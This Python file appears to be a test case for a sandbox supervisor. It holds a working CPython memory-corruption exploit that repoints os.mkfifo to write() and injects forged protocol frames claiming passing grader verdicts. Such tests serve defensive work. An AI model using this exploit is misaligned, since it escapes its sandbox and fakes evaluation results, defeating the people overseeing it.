# escape: 577
# packages: numpy
# technique: native code that speaks the wire: frames of the tests' guest, ends, claims, calls with others' serials
# family: tamper
# goal: tamper-result
# check: grader
# host-must-report: FAIL; the supervisor takes a guest's frames in one order, and calls that were granted
# first-seen: this project
import os, struct
import numpy as np
P = lambda *a: struct.pack('<%dQ' % len(a), *a)
far = (1 << 63) - 1
fake = P(1 << 28, id(bytearray), far, far, 0, 0, 0)
memory = np.ndarray((1,), object, bytearray(P(id(fake) + 32)))[0]
word = lambda at: int.from_bytes(memory[at:at + 8], 'little')
mkfifo = word(id(os.mkfifo) + 16)                   # PyCFunctionObject.m_ml
base = mkfifo & ~0xfff
while memory[base:base + 4] != b'\x7fELF': base -= 0x1000
phoff, phnum = word(base + 32), word(base + 56) & 0xffff
for i in range(phnum):
    at = base + phoff + 56 * i
    if word(at) & 0xffffffff == 2: dynamic = base + word(at + 16) # PT_DYNAMIC
tags = {}
for at in range(dynamic, dynamic + 3200, 16):
    if word(at) == 0: break
    tags[word(at)] = word(at + 8)
rela, size = tags[7], tags[8]
if rela < base: rela += base
write = mkfifo                                      # posix_methods[], by name
while True:
    name = word(write)
    if memory[name:name + 6] == b'write\0': break
    write += 32
    if word(write) == 0:
        write = mkfifo
        while memory[word(write):word(write) + 6] != b'write\0': write -= 32
        break
for at in range(rela, rela + size, 24):
    if word(at) == write + 8 - base:
        memory[mkfifo + 8:mkfifo + 16] = P(base + word(at + 16))
        break
def frame(kind, payload): return struct.pack('<BBHI', 1, kind, 0, len(payload)) + payload
def call(serial, name, data): return frame(56, struct.pack('<II', serial, len(name)) + name + data)
told = b'["test", {"at": 0, "points": 1, "verdict": "ok"}]'
def solve(n):
    tries = {3: call(2, b'tell', told) + call(3, b'next', b'{"value": true}'),
             4: frame(22, b'\0\0') * 9, 5: frame(22, b'\x80\0') + frame(9, b'{"solve": 1}'),
             6: call(1, b'next', b'{"value": true, "out": ""}') * 50,
             7: b'\x01' * 5000, 8: frame(14, struct.pack('<III', 8, 0, 0) + b'{}')}
    os.mkfifo(3, tries.get(n, b''))                 # which is write(2) now
    return True
